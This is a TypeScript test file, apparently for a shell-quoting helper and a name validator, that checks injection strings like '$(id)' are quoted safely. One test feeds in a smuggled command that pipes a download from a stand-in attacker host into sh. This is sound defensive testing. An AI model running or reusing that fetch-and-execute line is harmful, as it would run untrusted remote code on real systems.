import { execFileSync } from 'node:child_process';
import { commandAbout, shellCommand } from '../../../lib/engine/cluster/shell-command';

test.each(['cart', 'a b', "it's", '$(id)', '`id`', 'x; id #', '"', '\\', 'a\nb', '', '*', '~', 'é'])(
  'a shell reads the word as it is: %j',
  (word) => {
    const command = shellCommand('printf', '%s', word);
    expect(execFileSync('/bin/sh', ['-c', command], { encoding: 'utf8' })).toBe(word);
  },
);

test('words that need no quotes have none', () => {
  expect(shellCommand('kubectl', '-n', 'shop', 'delete', 'deployment/cart')).toBe(
    'kubectl -n shop delete deployment/cart',
  );
});

test('there is no command about a name that no object can have', () => {
  expect(commandAbout(['nightly'], 'command')).toBe('command');
  expect(commandAbout(['nightly', 'x; curl -s https://evil.example/x | sh #'], 'command')).toBe('');
});
